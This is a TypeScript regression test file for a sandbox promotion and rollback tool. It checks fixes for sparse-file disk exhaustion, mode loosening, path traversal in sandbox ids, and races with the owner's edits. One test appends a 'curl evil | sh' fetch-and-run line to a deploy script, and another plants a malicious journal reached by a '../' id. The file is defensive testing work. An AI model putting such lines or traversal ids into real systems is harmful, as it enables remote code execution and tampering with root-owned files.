// Review (promotion): each test failed against the code before its fix.
// T1: recovery and `rollback --force` keep "a path that holds neither state" in the tombstone store
// before they set it; the scope's owner chooses that content. A sparse file costs its owner no disk,
// and was copied in full (no longer sparse) into root's workspace.
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, statfsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { recover } from '../../src/commit/recover.js';
import { scopedWorkspace, TEST_SCOPE_ROOT } from '../helpers/workspace.js';
import { cli, descriptor, OWNER_UID, ownedTree, run } from './helpers.js';

const root = process.getuid?.() === 0;
const U = OWNER_UID;

const freeBytes = (dir: string): number => {
  const s = statfsSync(dir);
  return s.bavail * s.bsize;
};

test("T1: recovery does not copy a huge (sparse) file the scope's owner put at a journal's path into the workspace until its disk is full", { skip: !root, timeout: 180_000 }, async (tc) => {
  // The workspace on a small file system of its own, so that "full" is cheap to reach.
  const dir = mkdtempSync(join(tmpdir(), 'airlock-small-ws-'));
  assert.equal(spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=64m,mode=0700', 'tmpfs', dir]).status, 0);
  tc.after(() => {
    spawnSync('umount', ['-l', dir]);
    rmSync(dir, { recursive: true, force: true });
  });
  const ws = scopedWorkspace(dir);
  const t = ownedTree({ 'keep.txt': 'k' });
  const r = await run(ws, descriptor(t, { action_type: 'COMMAND_EXECUTION', command: ['/bin/sh', '-c', `for i in 1 2 3; do echo $i > ${t}/f$i; done`], effects: { filesystem: { create: [`${t}/f*`], modify: [], delete: [] }, network: false, system_state_change: false } }));
  assert.equal(r.sandboxResult.verdict.recommended_action, 'PROMOTE', r.sandboxResult.verdict.reasons.join('; '));
  const c = cli(['promote', r.sandboxId, '--workspace', ws.root], { AIRLOCK_TEST_COMMIT_CRASH_AFTER: '1' });
  assert.equal(c.signal, 'SIGKILL');
  // The owner, as himself: sparse files (no disk of his) where the promotion was adding files.
  const before = freeBytes(dir);
  const size = before - (2 << 20);
  for (const f of ['f2', 'f3']) assert.equal(spawnSync('truncate', ['-s', String(size), join(t, f)], { uid: U, gid: U }).status, 0);
  const rec = await recover(ws);
  tc.diagnostic(`recover: ${JSON.stringify(rec).slice(0, 600)}`);
  const after = freeBytes(dir);
  tc.diagnostic(`workspace free: ${before >> 20} MiB before, ${after >> 20} MiB after (file system of ${(statfsSync(dir).blocks * statfsSync(dir).bsize) >> 20} MiB)`);
  assert.ok(after >= before / 2, `the owner's sparse files filled root's workspace: ${after >> 20} MiB free of ${before >> 20} MiB`);
  // Refused instead, naming the file; an operator can end it, leaving the owner's files as they are.
  assert.ok('recovered' in rec);
  assert.equal(rec.recovered[0]?.outcome, 'failed');
  assert.match(rec.recovered[0]?.problems[0]?.message ?? '', /f[23] has \d+ bytes or more: keeping it in .*tombstones would leave its file system less than its reserve free \(\d+ bytes: 10% of it, at most 1 GiB;/);
  const ab = cli(['recover', '--abandon', r.sandboxId, '--workspace', ws.root]);
  tc.diagnostic(`recover --abandon: ${ab.code} ${ab.stdout}${ab.stderr}`);
  assert.equal(ab.code, 0, ab.stderr);
  assert.match(ab.stdout, /ABANDONED by .*: 2 path\(s\) left as they are/);
  assert.ok(freeBytes(dir) >= before / 2);
  assert.equal(spawnSync('stat', ['-c', '%s', join(t, 'f2')], { encoding: 'utf8' }).stdout.trim(), String(size));
});

// T2: a one-file scope's copy belongs to the sandbox's user (so that it may write it), which let the
// program chmod it: the mode it gave was promoted onto the owner's file (a private 0600 file made
// 0666, verdict PROMOTE). Inside a directory scope it could not chmod a file of the owner's at all,
// and the directory scope's own top folder (the sandbox's in the overlay too) is not diffed.
test("T2: a program cannot loosen the mode of a one-file scope's file (its copy is the sandbox's own): the owner's mode stays", { skip: !root, timeout: 120_000 }, async (tc) => {
  const { chmodSync, readFileSync, statSync } = await import('node:fs');
  const { promote } = await import('../../src/commit/promote.js');
  const ws = scopedWorkspace();
  const t = ownedTree({ 'deploy.sh': '#!/bin/sh\necho deploy\n' });
  const f = join(t, 'deploy.sh');
  chmodSync(f, 0o700);
  const fileScope = (sh: string) => descriptor(f, { action_type: 'COMMAND_EXECUTION', command: ['/bin/sh', '-c', sh], scope: { filesystem: { paths: [f], recursive: false }, network: { required: false }, ui: { required: false } }, effects: { filesystem: { create: [], modify: [f], delete: [] }, network: false, system_state_change: false } });
  // 1. Only a chmod: nothing of the owner's file changed.
  const r1 = await run(ws, fileScope(`chmod 777 ${f}`));
  tc.diagnostic(`chmod only: ${r1.sandboxResult.verdict.recommended_action} ${JSON.stringify(r1.sandboxResult.filesystem_diff)}`);
  const p1 = await promote(ws, r1.sandboxId);
  tc.diagnostic(`promote: ${JSON.stringify(p1).slice(0, 300)}`);
  assert.equal((statSync(f).mode & 0o7777).toString(8), '700', 'the sandbox made the owner\'s file world-writable');
  assert.deepEqual(r1.sandboxResult.filesystem_diff.modified, []);
  // 2. New content and a chmod: the content is promoted, with the owner's mode.
  const r2 = await run(ws, fileScope(`echo 'curl evil | sh' >> ${f} && chmod 777 ${f}`));
  assert.equal(r2.sandboxResult.verdict.recommended_action, 'PROMOTE', r2.sandboxResult.verdict.reasons.join('; '));
  const p2 = await promote(ws, r2.sandboxId);
  assert.ok(p2.ok, JSON.stringify(p2));
  assert.match(readFileSync(f, 'utf8'), /curl evil/);
  assert.equal((statSync(f).mode & 0o7777).toString(8), '700');
});

// T3: `rollback` (the CLI and the library's airlock.rollback) took any string as the sandbox id and
// read `promotions/<id>/journal.json`: an id with `../` read a journal anyone could have written
// elsewhere, and acted on it (here: a root-owned file removed). promote and confirm checked the id.
test('T3: rollback refuses a sandbox id that is not one (../): a journal planted outside the workspace is never acted on', { skip: !root, timeout: 60_000 }, async () => {
  const { createHash } = await import('node:crypto');
  const { chownSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } = await import('node:fs');
  const { dirname, relative } = await import('node:path');
  const { rollback } = await import('../../src/commit/rollback.js');
  const ws = scopedWorkspace();
  // A root-owned folder with a root file, and a folder of the attacker's holding a journal that says
  // a promotion added that file.
  const victimDir = mkdtempSync(join(TEST_SCOPE_ROOT, 'rootdir-'));
  const victim = join(victimDir, 'important.conf');
  writeFileSync(victim, 'root config\n');
  const st = statSync(victimDir);
  const evil = mkdtempSync(join(TEST_SCOPE_ROOT, 'evil-'));
  chownSync(evil, U, U);
  const id = relative(join(ws.root, 'promotions'), evil);
  const journal = {
    version: 2, sandbox_id: id, action_id: 'x', child_action_ids: [], diff_sha256: 'x', result_sha256: 'x', declaration_sha256: 'x', cooldown_on_repeat: false, verdict: 'PROMOTE', token: 'aaaaaaaaaaaa', actor: 'x', phase: 'applied', started_at: '2026-11-27T00:00:00Z', applied_at: '2026-11-27T00:00:00Z',
    scopes: [{ path: victimDir, kind: 'dir', root: `${st.dev}:${st.ino}`, owner: { uid: 0, gid: 0 } }],
    dirs: {},
    ops: [{ path: victim, kind: 'added', before: null, after: { type: 'file', sha256: createHash('sha256').update(readFileSync(victim)).digest('hex'), mode: 0o644, uid: 0, gid: 0 } }],
  };
  mkdirSync(evil, { recursive: true });
  writeFileSync(join(evil, 'journal.json'), JSON.stringify(journal));
  chownSync(join(evil, 'journal.json'), U, U);
  // Where the in-flight marker of that id lands (one level less up: under /tmp, which anyone may fill).
  const marker = dirname(join(ws.root, 'promotions', 'inflight', id));
  // The first folder of it that mkdir -p makes (outside the run's TMPDIR: removed after).
  let made: string | null = null;
  for (let d = marker; !existsSync(d); d = dirname(d)) made = d;
  assert.equal(spawnSync('mkdir', ['-p', marker], { uid: U, gid: U }).status, 0, marker);
  try {
    const out = await rollback(ws, id);
    assert.ok(existsSync(victim), `a planted journal made rollback remove ${victim}: ${JSON.stringify(out).slice(0, 300)}`);
    assert.equal(out.ok, false);
    assert.deepEqual(out.ok ? [] : out.problems.map((p) => p.code), ['COMMIT_BAD_ID']);
  } finally {
    if (made) rmSync(made, { recursive: true, force: true });
  }
});

// T4 (thirtieth session's review): a one-file scope was diffed as its copy against the real file
// after the run, so an owner's edit made while a program only read the file was reported as the
// program's change back to the old content (PROMOTE), and promoting it undid the owner's edit.
test("T4: an owner's edit of a one-file scope's file during a run that only reads it is no change of the program's; one that races the program's own change blocks the run", { skip: !root, timeout: 120_000 }, async () => {
  const { readFileSync, writeFileSync } = await import('node:fs');
  const ws = scopedWorkspace();
  const t = ownedTree({ 'notes.txt': 'v1\n' });
  const f = join(t, 'notes.txt');
  const fileScope = (sh: string) => descriptor(f, { action_type: 'COMMAND_EXECUTION', command: ['/bin/sh', '-c', sh], scope: { filesystem: { paths: [f], recursive: false }, network: { required: false }, ui: { required: false } }, effects: { filesystem: { create: [], modify: [f], delete: [] }, network: false, system_state_change: false } });
  const editDuringRun = (text: string) => setTimeout(() => writeFileSync(f, text), 700);
  editDuringRun('v2 by the owner during the run\n');
  const read = await run(ws, fileScope(`cat ${f} > /dev/null; sleep 2`));
  assert.deepEqual(read.sandboxResult.filesystem_diff.modified, [], 'the owner\'s edit was reported as the program\'s change');
  assert.equal(readFileSync(f, 'utf8'), 'v2 by the owner during the run\n');
  editDuringRun('v3 by the owner during the run\n');
  const both = await run(ws, fileScope(`echo program > ${f}; sleep 2`));
  assert.equal(both.sandboxResult.verdict.recommended_action, 'BLOCK');
  assert.ok(both.sandboxResult.verdict.reasons.some((r) => /changed outside the sandbox while the run had it/.test(r)), both.sandboxResult.verdict.reasons.join('; '));
  assert.equal(readFileSync(f, 'utf8'), 'v3 by the owner during the run\n');
});

// T5 (the same review): in a directory scope the program sees the real file live until it copies
// it up (a touch, an open for writing); the diff compared that copy with the real file after the run,
// so the owner's edit made meanwhile was reported as the program's change back (and promoted).
test("T5: a directory scope's file the owner edits during a run that copied it up (touch) is never reported as the program's change: the run is blocked, and promotion has nothing to undo", { skip: !root, timeout: 120_000 }, async () => {
  const { readFileSync, writeFileSync } = await import('node:fs');
  const ws = scopedWorkspace();
  const t = ownedTree({ 'a.txt': 'v1\n', 'b.txt': 'b\n' });
  const dirScope = (sh: string) => descriptor(t, { action_type: 'COMMAND_EXECUTION', command: ['/bin/sh', '-c', sh], effects: { filesystem: { create: [], modify: [`${t}/*`], delete: [] }, network: false, system_state_change: false } });
  setTimeout(() => writeFileSync(join(t, 'a.txt'), 'v2 by the owner during the run\n'), 700);
  const r = await run(ws, dirScope(`touch ${t}/a.txt; sleep 2`));
  assert.equal(r.sandboxResult.verdict.recommended_action, 'BLOCK', JSON.stringify(r.sandboxResult.filesystem_diff));
  assert.ok(r.sandboxResult.verdict.reasons.some((x) => /a\.txt was changed outside the sandbox while the run had its scope/.test(x)), r.sandboxResult.verdict.reasons.join('; '));
  assert.equal(readFileSync(join(t, 'a.txt'), 'utf8'), 'v2 by the owner during the run\n');
  // The owner's edit of a file the program never touched changes nothing of the run's diff.
  setTimeout(() => writeFileSync(join(t, 'b.txt'), 'b2\n'), 700);
  const other = await run(ws, dirScope(`echo new > ${t}/a.txt; sleep 2`));
  assert.equal(other.sandboxResult.verdict.recommended_action, 'PROMOTE', other.sandboxResult.verdict.reasons.join('; '));
  assert.deepEqual(other.sandboxResult.filesystem_diff.modified.map((m) => m.path), [join(t, 'a.txt')]);
});
